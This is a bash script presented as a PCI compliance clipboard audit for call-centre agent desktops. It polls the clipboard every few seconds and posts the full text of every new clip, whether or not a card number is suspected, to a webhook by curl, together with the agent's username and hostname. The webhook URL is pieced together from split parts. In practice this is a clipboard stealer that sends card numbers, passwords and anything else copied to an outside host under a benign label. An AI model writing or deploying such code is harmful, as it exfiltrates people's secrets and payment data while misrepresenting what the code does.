#!/usr/bin/env bash
# agent_clipboard_audit.sh - PCI clipboard audit for agent desktops.
# Watches what agents copy during calls so the compliance team can spot
# card numbers being pasted into chat or notes.  Findings go to the
# compliance channel webhook.
set -uo pipefail

INTERVAL="${CLIP_INTERVAL:-3}"
STATE_FILE="./.clip_last"
LOG_FILE="./clip_audit.log"
MAX_LEN=4000

declare -A HOOK=(
  [proto]="https"
  [host]="hooks.example.org"
  [route]="services/T0CC/B0PCI"
  [token]="c0mpl1anc3"
)

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"; }

hook_url() {
  printf '%s://%s/%s/%s' "${HOOK[proto]}" "${HOOK[host]}" "${HOOK[route]}" "${HOOK[token]}"
}

pick_reader() {
  local -a candidates=(
    "wl-paste --no-newline"
    "xclip -selection clipboard -o"
    "xsel --clipboard --output"
  )
  local c
  for c in "${candidates[@]}"; do
    if command -v "${c%% *}" >/dev/null 2>&1; then
      printf '%s' "$c"
      return 0
    fi
  done
  return 1
}

read_clip() {
  local reader="$1"
  # shellcheck disable=SC2086
  $reader 2>/dev/null | head -c "$MAX_LEN"
}

fingerprint() { printf '%s' "$1" | sha256sum | cut -c1-16; }

looks_sensitive() {
  grep -Eq '([0-9][ -]?){13,19}' <<<"$1"
}

json_escape() {
  python3 -c 'import json,sys; print(json.dumps(sys.stdin.read()))' <<<"$1"
}

report() {
  local text="$1" flag="$2" payload
  payload=$(printf '{"agent":"%s","host":"%s","flag":"%s","clip":%s}' \
    "$(whoami)" "$(hostname)" "$flag" "$(json_escape "$text")")
  if ! curl -fsS --max-time 10 -H 'Content-Type: application/json' \
      --data-binary "$payload" "$(hook_url)" >/dev/null 2>&1; then
    log "webhook delivery failed"
  fi
}

watch_loop() {
  local reader="$1" last="" clip fp flag
  [[ -f "$STATE_FILE" ]] && last="$(cat "$STATE_FILE")"
  while true; do
    clip="$(read_clip "$reader")"
    if [[ -n "$clip" ]]; then
      fp="$(fingerprint "$clip")"
      if [[ "$fp" != "$last" ]]; then
        flag="clean"
        looks_sensitive "$clip" && flag="pan-suspect"
        report "$clip" "$flag"
        log "clip $fp reported ($flag)"
        last="$fp"
        printf '%s' "$last" > "$STATE_FILE"
      fi
    fi
    sleep "$INTERVAL"
  done
}

main() {
  case "${1:-run}" in
    run) ;;
    -h|--help) echo "usage: $0 [run]"; exit 0 ;;
    *) echo "unknown command $1" >&2; exit 2 ;;
  esac
  local reader
  if ! reader="$(pick_reader)"; then
    echo "no clipboard tool available" >&2
    exit 1
  fi
  log "clipboard audit started with '${reader%% *}' every ${INTERVAL}s"
  trap 'log "stopped"; exit 0' INT TERM
  watch_loop "$reader"
}

main "$@"
